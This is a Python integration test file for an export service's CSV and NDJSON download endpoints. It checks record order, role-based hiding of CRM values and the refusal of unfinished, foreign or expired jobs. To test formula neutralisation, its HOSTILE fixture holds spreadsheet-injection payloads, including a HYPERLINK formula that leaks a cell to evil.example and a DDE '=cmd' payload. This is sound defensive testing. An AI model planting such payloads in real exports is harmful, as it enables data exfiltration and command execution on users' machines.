"""Downloading a finished export's per-record results (CSV, NDJSON) through the functions, from real Blob
Storage (Azurite): what the file holds, that spreadsheet formulas in it are neutralised, who sees the CRM's
values, and which jobs are not offered. Memory at 100,000 records is measured by ``python -m
bench.download``; here the file is built in many pages and blocks to exercise the same path."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid
from collections.abc import Iterator

import azure.functions as func
import pytest
import requests

from core import bootstrap
from core.adapters.storage.result_files import ResultFiles
from core.domain.jobs import FieldError, RecordAction, RecordOutcome
from core.domain.result_files import CSV_COLUMNS, ResultFormat
from core.entrypoints import results_api
from core.services.exports.service import EXPORT_NAMES
from core.services.jobs.downloads import ResultsDownloads
from core.settings import get_settings
from tests.support import tokens
from tests.support.azurite import Azurite
from tests.support.http import call, configure_app, request
from tests.support.results import seed_job

pytestmark = pytest.mark.integration

HOSTILE = {
    0: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    1: "+41 79 000 00 00",
    2: "-2+3",
    3: "@SUM(1+1)",
    4: "\t=1+1",
    5: "\r=1+1",
    6: "  =1+1",
}


def outcome(seq: int) -> RecordOutcome:
    """Record ``seq``: hostile platform ids and error messages at the start, a few of each kind after."""
    platform_id = HOSTILE.get(seq, f"p-{seq}")
    if seq % 7 == 3:
        return RecordOutcome(
            seq,
            platform_id,
            RecordAction.FAILED,
            errors=[FieldError("emailaddress1", "=cmd|' /C calc'!A0", "0x80040237")],
        )
    if seq % 7 == 5:
        return RecordOutcome(
            seq,
            platform_id,
            RecordAction.UPDATED,
            str(uuid.UUID(int=seq + 1)),
            changes={"firstname": {"before": "Secret CRM value", "after": "Ada"}},
        )
    return RecordOutcome(seq, platform_id, RecordAction.CREATED, str(uuid.UUID(int=seq + 1)))


@pytest.fixture()
def ws(azurite: Azurite, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    configure_app(monkeypatch, azurite.connection_string)
    yield f"ws-{uuid.uuid4().hex[:12]}"
    get_settings.cache_clear()


def download(ws: str, job_id: str, fmt: str, role: str = "admin") -> requests.Response:
    fn = results_api.get_export_records_csv if fmt == "csv" else results_api.get_export_records_ndjson
    resp = call(
        fn,
        request(
            "GET",
            f"dynamics/exports/{job_id}/records.{fmt}",
            headers=tokens.bearer(ws, role=role),
            route_params={"jobId": job_id},
        ),
    )
    if resp.status_code != 302:
        return _problem(resp.status_code, resp.get_body())
    assert resp.headers["Cache-Control"] == "no-store"
    file = requests.get(resp.headers["Location"], timeout=30)  # no bearer token: the link is enough
    assert file.status_code == 200, file.text[:300]
    return file


def _problem(status: int, body: bytes) -> requests.Response:
    answer = requests.Response()
    answer.status_code = status
    answer._content = body
    return answer


def test_csv_holds_every_record_in_order_with_formulas_neutralised(ws: str) -> None:
    store = bootstrap.app().export_store
    job_id = seed_job(store, ws, 1_203, outcome=outcome)
    # Pages of 100 records and blocks of 16 KiB: the file is built from many of each.
    small = ResultsDownloads(
        store,
        ResultFiles(store._blobs, EXPORT_NAMES.container, block_bytes=16 * 1024),
        kind="export",
        page_size=100,
    )
    link = small.link(ws, job_id, ResultFormat.CSV, sees_crm_values=True)
    assert link is not None and link.built and link.size > 16 * 1024 * 4
    assert link.filename == f"export-{job_id}-records.csv"

    file = download(ws, job_id, "csv")  # reuses the file just built
    assert file.headers["Content-Type"].startswith("text/csv")
    assert f'filename="export-{job_id}-records.csv"' in file.headers["Content-Disposition"]
    text = file.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [int(r["seq"]) for r in rows] == list(range(1_203))
    assert '"=HYPERLINK' not in text and '"+41' not in text and '"@SUM' not in text

    # Every cell a spreadsheet would run is shown as text: a leading single quote, nothing else changed.
    for seq, value in HOSTILE.items():
        assert rows[seq]["platformId"] == "'" + value
    assert rows[7]["platformId"] == "p-7"
    failed = rows[10]
    assert failed["action"] == "failed" and failed["errorCodes"] == "0x80040237"
    assert failed["errors"] == "emailaddress1: =cmd|' /C calc'!A0"  # not at the start of the cell
    assert rows[17]["errors"] == "emailaddress1: =cmd|' /C calc'!A0"
    updated = rows[12]
    assert updated["action"] == "updated" and updated["changedColumns"] == "firstname"
    assert json.loads(updated["changes"]) == {"firstname": {"before": "Secret CRM value", "after": "Ada"}}
    assert rows[0]["dynamicsId"] == str(uuid.UUID(int=1))


def test_ndjson_is_each_record_as_the_records_endpoint_shows_it(ws: str) -> None:
    store = bootstrap.app().export_store
    job_id = seed_job(store, ws, 40, outcome=outcome)
    lines = download(ws, job_id, "ndjson").content.decode().splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["seq"] for r in records] == list(range(40))
    assert records[0]["platformId"] == HOSTILE[0]  # exact: NDJSON is for programs
    assert records[3]["errors"] == [
        {"field": "emailaddress1", "message": "=cmd|' /C calc'!A0", "code": "0x80040237"}
    ]
    assert records[5]["changes"] == {"firstname": {"before": "Secret CRM value", "after": "Ada"}}


@pytest.mark.parametrize("role", ["member", "service"])
def test_the_crms_values_are_in_admins_files_only(ws: str, role: str) -> None:
    store = bootstrap.app().export_store
    job_id = seed_job(store, ws, 12, outcome=outcome)
    assert b"Secret CRM value" in download(ws, job_id, "csv", role="admin").content
    for fmt in ("csv", "ndjson"):
        file = download(ws, job_id, fmt, role=role)
        assert b"Secret CRM value" not in file.content
        assert b"Ada" in file.content  # what is written stays visible


def test_jobs_not_offered(ws: str) -> None:
    store = bootstrap.app().export_store
    running = seed_job(store, ws, 600, finished=False)
    answer = download(ws, running, "csv")
    assert answer.status_code == 409 and "running" in answer.json()["detail"]

    finished = seed_job(store, ws, 3)
    other = f"ws-{uuid.uuid4().hex[:12]}"
    assert download(other, finished, "csv").status_code == 404  # another workspace's job
    assert download(ws, str(uuid.uuid4()), "ndjson").status_code == 404
    assert download(ws, "../x", "csv").status_code == 404

    store._tables.get_table_client(EXPORT_NAMES.jobs_table).update_entity(
        {"PartitionKey": ws, "RowKey": finished, "recordsDeletedAt": "2026-01-01T00:00:00+00:00"}
    )
    gone = download(ws, finished, "csv")
    assert gone.status_code == 410 and "retention" in gone.json()["detail"]


def ask_link(ws: str, job_id: str, fmt: str, accept: str) -> func.HttpResponse:
    fn = results_api.get_export_records_csv if fmt == "csv" else results_api.get_export_records_ndjson
    return call(
        fn,
        request(
            "GET",
            f"dynamics/exports/{job_id}/records.{fmt}",
            headers={**tokens.bearer(ws), "Accept": accept},
            route_params={"jobId": job_id},
        ),
    )


def test_a_browser_page_asks_for_the_link_as_json(ws: str) -> None:
    """What the Exports page does: Accept application/json answers 200 with the link it navigates to."""
    store = bootstrap.app().export_store
    job_id = seed_job(store, ws, 5, outcome=outcome)
    before = dt.datetime.now(dt.UTC)
    answer = ask_link(ws, job_id, "csv", "application/json")
    assert answer.status_code == 200 and answer.mimetype == "application/json"
    assert answer.headers["Cache-Control"] == "no-store" and answer.headers["Vary"] == "Accept"
    body = json.loads(answer.get_body())
    assert set(body) == {"url", "expiresAt", "fileName"}
    assert body["fileName"] == f"export-{job_id}-records.csv"
    expires = dt.datetime.fromisoformat(body["expiresAt"].replace("Z", "+00:00"))
    assert before + dt.timedelta(minutes=4) < expires <= dt.datetime.now(dt.UTC) + dt.timedelta(minutes=5)
    file = requests.get(body["url"], timeout=30)  # the same kind of link as the 302's: no token needed
    assert file.status_code == 200 and f'filename="{body["fileName"]}"' in file.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(file.content.decode("utf-8").removeprefix("\ufeff"))))
    assert [int(r["seq"]) for r in rows] == list(range(5))

    ndjson = json.loads(ask_link(ws, job_id, "ndjson", "application/json, */*;q=0.1").get_body())
    assert ndjson["fileName"] == f"export-{job_id}-records.ndjson"
    assert json.loads(requests.get(ndjson["url"], timeout=30).text.splitlines()[0])["seq"] == 0

    # The file preferred, wildcards only (a browser's navigation) or no JSON asked: the redirect, as before.
    for accept in ("text/csv, application/json;q=0.5", "*/*", "text/html,*/*;q=0.8", "application/json;q=0"):
        redirected = ask_link(ws, job_id, "csv", accept)
        assert redirected.status_code == 302 and redirected.headers["Location"].startswith("http"), accept


def test_json_asked_for_a_job_not_offered_still_answers_problem_details(ws: str) -> None:
    store = bootstrap.app().export_store
    running = seed_job(store, ws, 600, finished=False)
    answer = ask_link(ws, running, "csv", "application/json")
    assert answer.status_code == 409 and answer.mimetype == "application/problem+json"
    assert "running" in json.loads(answer.get_body())["detail"]
    unknown = ask_link(ws, str(uuid.uuid4()), "ndjson", "application/json")
    assert unknown.status_code == 404 and unknown.mimetype == "application/problem+json"

    finished = seed_job(store, ws, 3)
    store._tables.get_table_client(EXPORT_NAMES.jobs_table).update_entity(
        {"PartitionKey": ws, "RowKey": finished, "recordsDeletedAt": "2026-01-01T00:00:00+00:00"}
    )
    gone = ask_link(ws, finished, "csv", "application/json")
    assert gone.status_code == 410 and gone.mimetype == "application/problem+json"
    assert "retention" in json.loads(gone.get_body())["detail"]
